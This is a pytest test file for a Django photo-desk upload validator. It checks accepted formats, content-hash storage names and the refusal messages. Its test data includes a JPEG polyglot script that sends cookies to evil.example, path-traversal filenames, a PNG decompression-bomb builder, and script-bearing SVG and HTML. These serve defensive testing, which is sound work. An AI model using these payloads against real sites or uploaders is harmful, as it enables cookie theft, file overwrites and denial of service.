"""What the photo desk accepts as an upload, and the message for everything it refuses."""

import hashlib
import io
import struct
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from articles.photos.validation import (
    AcceptedPhoto,
    PhotoRejected,
    content_sha256,
    storage_name,
    validate_upload,
)
from tests.images import encode, exif_block, jpeg_bytes, textured


def rejection(content, filename="photo.jpg"):
    with pytest.raises(PhotoRejected) as caught:
        validate_upload(content, filename)
    return caught.value


def png_header_only(width, height):
    """A PNG that claims ``width`` x ``height`` pixels but holds almost no data: a pixel bomb."""

    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00" * 64))


# Accepted -------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("fmt", "filename", "extension", "mime_type"),
    [
        ("JPEG", "harbour.jpg", "jpg", "image/jpeg"),
        ("JPEG", "harbour.JPEG", "jpg", "image/jpeg"),
        ("PNG", "chart.png", "png", "image/png"),
        ("WEBP", "market.webp", "webp", "image/webp"),
        ("AVIF", "market.avif", "avif", "image/avif"),
        ("GIF", "map.gif", "gif", "image/gif"),
    ],
)
def test_accepted_formats(fmt, filename, extension, mime_type):
    content = encode(textured((90, 60)), fmt)
    accepted = validate_upload(content, filename)

    assert isinstance(accepted, AcceptedPhoto)
    assert (accepted.format, accepted.extension, accepted.mime_type) == (fmt, extension, mime_type)
    assert (accepted.width, accepted.height) == (90, 60)
    assert accepted.content == content
    assert accepted.sha256 == hashlib.sha256(content).hexdigest()
    assert accepted.storage_name == f"photos/originals/{accepted.sha256[:2]}/{accepted.sha256}.{extension}"
    assert accepted.renamed is False


def test_animated_gif_is_accepted_for_its_first_frame():
    frames = [Image.new("P", (40, 30), index) for index in range(3)]
    buffer = io.BytesIO()
    frames[0].save(buffer, "GIF", save_all=True, append_images=frames[1:], duration=100)

    accepted = validate_upload(buffer.getvalue(), "loop.gif")
    assert (accepted.format, accepted.width, accepted.height) == ("GIF", 40, 30)


def test_phone_jpegs_with_extra_frames_are_stored_as_jpeg():
    buffer = io.BytesIO()
    textured((80, 60)).save(buffer, "MPO", save_all=True, append_images=[textured((40, 30))])

    accepted = validate_upload(buffer.getvalue(), "IMG_0001.JPG")
    assert (accepted.format, accepted.extension, accepted.mime_type) == ("MPO", "jpg", "image/jpeg")
    assert accepted.renamed is False


def test_a_png_named_jpg_is_accepted_and_stored_as_png():
    accepted = validate_upload(encode(textured((30, 20)), "PNG"), "scan.jpg")

    assert accepted.extension == "png"
    assert accepted.storage_name.endswith(".png")
    assert accepted.renamed is True


def test_a_file_without_extension_is_judged_by_content():
    accepted = validate_upload(jpeg_bytes(), "wire-photo-0042")
    assert (accepted.extension, accepted.renamed) == ("jpg", False)


def test_width_and_height_are_as_the_photo_is_seen():
    content = jpeg_bytes(size=(120, 80), exif=exif_block(orientation=6))
    accepted = validate_upload(content, "portrait.jpg")

    assert (accepted.width, accepted.height) == (80, 120)


def test_django_uploaded_files_are_read_from_the_start_and_rewound():
    upload = SimpleUploadedFile("quay.jpg", jpeg_bytes(), content_type="image/jpeg")
    upload.read(10)

    accepted = validate_upload(upload)
    assert accepted.original_name == "quay.jpg"
    assert accepted.content == jpeg_bytes()
    assert upload.tell() == 0


@pytest.mark.parametrize(
    ("filename", "shown"),
    [
        ("../../../../etc/cron.d/evil.jpg", "evil.jpg"),
        ("C:\\Users\\desk\\..\\..\\boot.ini.jpg", "boot.ini.jpg"),
        ("x" * 5000 + ".jpg", "x" * 200),
        ("line\nbreak\x00.jpg", "linebreak.jpg"),
    ],
)
def test_upload_names_never_become_stored_names(filename, shown):
    content = jpeg_bytes()
    accepted = validate_upload(content, filename)

    assert accepted.storage_name == storage_name(hashlib.sha256(content).hexdigest(), "jpg")
    assert ".." not in accepted.storage_name
    assert accepted.original_name == shown


# Refused --------------------------------------------------------------------------------------


def test_empty_files_are_refused():
    error = rejection(b"", "empty.jpg")
    assert (error.code, str(error)) == ("empty", "The file is empty.")


def test_files_over_the_size_limit_are_refused(settings):
    settings.PHOTO_MAX_UPLOAD_BYTES = 2000
    content = encode(textured((200, 200)), "PNG")
    assert len(content) > 2000

    error = rejection(content, "big.png")
    assert error.code == "too_large"
    assert "2.0\xa0KB" in str(error)


def test_the_size_limit_uses_the_declared_size_of_uploaded_files(settings):
    settings.PHOTO_MAX_UPLOAD_BYTES = 100
    upload = SimpleUploadedFile("big.jpg", jpeg_bytes())

    assert rejection(upload, "big.jpg").code == "too_large"


def test_the_default_size_limit_is_forty_megabytes(settings):
    del settings.PHOTO_MAX_UPLOAD_BYTES
    content = jpeg_bytes() + b"\x00" * (40 * 1024 * 1024)

    assert "40.0\xa0MB" in str(rejection(content))


def test_images_over_the_pixel_limit_are_refused_before_decoding(settings):
    settings.PHOTO_MAX_PIXELS = 100 * 100
    error = rejection(encode(textured((101, 100)), "PNG"), "wide.png")

    assert error.code == "too_many_pixels"
    assert "0.01 megapixels" in str(error)
    assert validate_upload(encode(textured((100, 100)), "PNG"), "exact.png").width == 100


@pytest.mark.parametrize("size", [(20_000, 20_000), (100_000, 100_000)])
def test_decompression_bombs_are_refused(settings, size):
    # The first is over our 60 MP default; the second is so large Pillow itself refuses to open it.
    del settings.PHOTO_MAX_PIXELS
    error = rejection(png_header_only(*size), "tiny-file.png")

    assert error.code == "too_many_pixels"
    assert "60 megapixels" in str(error)


@pytest.mark.parametrize(("fmt", "keep"), [("JPEG", 0.5), ("PNG", 0.5), ("WEBP", 0.6), ("GIF", 0.5)])
def test_truncated_files_are_refused(fmt, keep):
    content = encode(textured((300, 200)), fmt)
    error = rejection(content[: int(len(content) * keep)], f"cut.{fmt.lower()}")

    assert error.code in {"damaged", "unsupported_format"}
    assert "damaged" in str(error)


def test_svg_is_refused_whatever_its_name():
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
    for filename in ("logo.svg", "logo.jpg", "logo"):
        error = rejection(svg, filename)
        assert error.code in {"unsupported_extension", "markup"}
        assert "SVG" in str(error) or "not a photo" in str(error)


def test_svg_without_script_is_refused_as_a_text_file():
    error = rejection(b'<?xml version="1.0"?>\n<drawing/>', "drawing.png")
    assert error.code == "unsupported_format"
    assert "SVG" in str(error)


def test_html_named_jpg_is_refused():
    error = rejection(b"<!DOCTYPE html><html><body><script>steal()</script></body></html>", "photo.jpg")
    assert error.code == "markup"
    assert str(error) == "The file contains web page or SVG markup, not just an image, and was refused."


def test_an_image_with_html_in_its_opening_bytes_is_refused():
    polyglot = jpeg_bytes(comment=b"<script>document.location='//evil.example/'+document.cookie</script>")
    with Image.open(io.BytesIO(polyglot)) as image:
        image.load()  # a perfectly decodable JPEG...

    assert rejection(polyglot, "innocent.jpg").code == "markup"  # ...that a browser could run


def test_html_in_front_of_an_image_is_refused():
    assert rejection(b"<html><script>x()</script></html>" + jpeg_bytes(), "photo.jpg").code == "markup"


@pytest.mark.parametrize("fmt", ["BMP", "TIFF", "PPM", "ICO"])
def test_other_image_formats_are_refused_by_content(fmt):
    error = rejection(encode(textured((32, 32)), fmt), "photo.jpg")

    assert error.code == "unsupported_format"
    assert "JPEG, PNG, WebP, AVIF or GIF" in str(error)


@pytest.mark.parametrize(
    "filename", ["logo.svg", "shell.php", "photo.jpg.php", "setup.exe", "notes.html", "x.heic"]
)
def test_names_announcing_something_other_than_a_photo_are_refused(filename):
    error = rejection(jpeg_bytes(), filename)

    assert error.code == "unsupported_extension"
    assert filename in str(error)


def test_random_bytes_are_refused():
    assert rejection(bytes(range(256)) * 40, "noise.jpg").code == "unsupported_format"


def test_rejection_is_a_value_error_with_a_code_for_form_errors(settings):
    settings.PHOTO_MAX_UPLOAD_BYTES = 10
    error = rejection(jpeg_bytes())

    assert isinstance(error, ValueError)
    assert error.params == {"limit": "10\xa0bytes"}
    assert str(error.message) % error.params == str(error)


# Hashing and storage names --------------------------------------------------------------------


def test_hashing_bytes_and_files_agree_and_files_are_rewound():
    content = jpeg_bytes()
    upload = io.BytesIO(content)
    upload.seek(5)

    assert content_sha256(upload) == content_sha256(content) == hashlib.sha256(content).hexdigest()
    assert upload.tell() == 5


def test_the_same_file_twice_gets_the_same_stored_name():
    first = validate_upload(jpeg_bytes(), "a.jpg")
    second = validate_upload(jpeg_bytes(), "completely-different.jpeg")
    other = validate_upload(jpeg_bytes(color=(1, 2, 3)), "a.jpg")

    assert first.storage_name == second.storage_name
    assert first.storage_name != other.storage_name


@pytest.mark.parametrize(
    ("digest", "extension"),
    [
        ("../" + "a" * 61, "jpg"),
        ("A" * 64, "jpg"),
        ("a" * 63, "jpg"),
        ("a" * 64, "svg"),
        ("a" * 64, "jpg/.."),
    ],
)
def test_storage_names_accept_only_digests_and_photo_extensions(digest, extension):
    with pytest.raises(ValueError):
        storage_name(digest, extension)
